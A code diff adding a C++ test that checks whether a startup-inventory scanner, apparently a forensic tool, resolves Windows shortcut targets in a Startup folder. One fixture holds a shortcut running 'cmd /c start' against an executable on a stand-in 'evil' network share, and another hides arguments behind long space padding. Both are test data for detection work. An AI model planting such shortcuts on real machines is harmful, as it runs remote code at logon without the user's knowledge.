@@ -128,5 +128,90 @@ TEST(StartupInventory, StartupFoldersResolveShortcuts) {
           "\" />\n");
 }
 
+// Of real shortcuts, many name their target only by its item list (those that run
+// "cmd /c ..." most often), by a network share or by a path relative to the shortcut, and
+// some are damaged after the parts that name it; each is followed as Windows follows it.
+TEST(StartupInventory, ShortcutsLeadToTheirTargetWhereverTheyNameIt) {
+  using testing_support::DriveItem;
+  using testing_support::FileItem;
+  using testing_support::MyComputerItem;
+  using testing_support::ShortcutParts;
+  TempImage image("xp");
+  image.WriteHostFile("Program Files/Clock/clock.exe", "clock program");
+  const std::string startup = "Documents and Settings/User/Start Menu/Programs/Startup/";
+  const std::string folder = "C:\\Documents and Settings\\User\\Start Menu\\Programs\\Startup\\";
+  auto target = [&](const std::string& name, const ShortcutParts& parts) {
+    image.WriteHostFile(startup + name, testing_support::ShortcutBytes(parts));
+    return ResolveShortcut(image.Machine(), folder + name);
+  };
+  const std::vector<std::string> clockItems = {MyComputerItem(), DriveItem('C'),
+                                               FileItem("PROGRA~1", u"Program Files", true),
+                                               FileItem("Clock", u"", true), FileItem("clock.exe")};
+
+  // The item list alone: folders by their long names where the item has one.
+  ShortcutParts listed;
+  listed.items = clockItems;
+  EXPECT_EQ(target("listed.lnk", listed), "C:\\Program Files\\Clock\\clock.exe");
+  ShortcutParts command;
+  command.items = {MyComputerItem(), DriveItem('C'), FileItem("WINDOWS", u"", true),
+                   FileItem("system32", u"", true), FileItem("cmd.exe")};
+  command.arguments = u"/c start \\\\evil\\x.exe";
+  EXPECT_EQ(target("command.lnk", command), "C:\\WINDOWS\\system32\\cmd.exe");
+
+  // A network share with the common path suffix; a path relative to the shortcut's folder.
+  ShortcutParts shared;
+  shared.shareName = "\\\\server\\tools";
+  shared.pathSuffix = "clock\\clock.exe";
+  EXPECT_EQ(target("shared.lnk", shared), "\\\\server\\tools\\clock\\clock.exe");
+  ShortcutParts relative;
+  relative.relativePath = u"..\\..\\..\\..\\..\\Program Files\\Clock\\clock.exe";
+  EXPECT_EQ(target("relative.lnk", relative), "C:\\Program Files\\Clock\\clock.exe");
+
+  // The order: the local path, the network path, the item list, the relative path.
+  ShortcutParts all = listed;
+  all.localPath = "C:\\local.exe";
+  all.shareName = "\\\\server\\share";
+  all.relativePath = u"relative.exe";
+  EXPECT_EQ(target("all.lnk", all), "C:\\local.exe");
+  all.localPath.reset();
+  EXPECT_EQ(target("all.lnk", all), "\\\\server\\share");
+  all.shareName.reset();
+  EXPECT_EQ(target("all.lnk", all), "C:\\Program Files\\Clock\\clock.exe");
+  all.items.clear();
+  EXPECT_EQ(target("all.lnk", all), folder + "relative.exe");
+
+  // Damage after the target that liblnk refuses the whole file for.
+  ShortcutParts padded = command;
+  padded.arguments = std::u16string(300, u' ') + u"/c start x.exe";
+  padded.argumentsCut = true;
+  EXPECT_EQ(target("padded.lnk", padded), "C:\\WINDOWS\\system32\\cmd.exe");
+  ShortcutParts oversized;
+  oversized.localPath = "C:\\Program Files\\Clock\\clock.exe";
+  oversized.oversizedExtraBlock = true;
+  EXPECT_EQ(target("oversized.lnk", oversized), "C:\\Program Files\\Clock\\clock.exe");
+
+  // A name with an unpaired UTF-16 surrogate: the ANSI path as the link stores it, and in an
+  // item's long name a "?" for the surrogate alone.
+  ShortcutParts surrogate;
+  surrogate.localPath = "C:\\Program Files\\Clock\\clock?.exe";
+  surrogate.localPathUnicode = u"C:\\Program Files\\Clock\\clock\xD800.exe";
+  EXPECT_EQ(target("surrogate.lnk", surrogate), "C:\\Program Files\\Clock\\clock?.exe");
+  ShortcutParts surrogateItem;
+  surrogateItem.items = {MyComputerItem(), DriveItem('C'),
+                         FileItem("CLOCK~1.EXE", u"clock\xD800.exe")};
+  EXPECT_EQ(target("surrogate.lnk", surrogateItem), "C:\\clock?.exe");
+
+  // The inventory lists the target the item list names, with its digest.
+  std::string written;
+  WriteStartupFolder(image.Machine(), folder.substr(0, folder.size() - 1),
+                     [&](const std::string& line) { written += line; });
+  EXPECT_NE(
+      written.find("Program = \"listed.lnk\" LinkFile = \"C:\\Program Files\\Clock\\clock.exe\" "
+                   "MD5 = \"" +
+                   foundation::Md5OfText("clock program") + "\"/>\n"),
+      std::string::npos)
+      << written;
+}
+
 }  // namespace
 }  // namespace scan
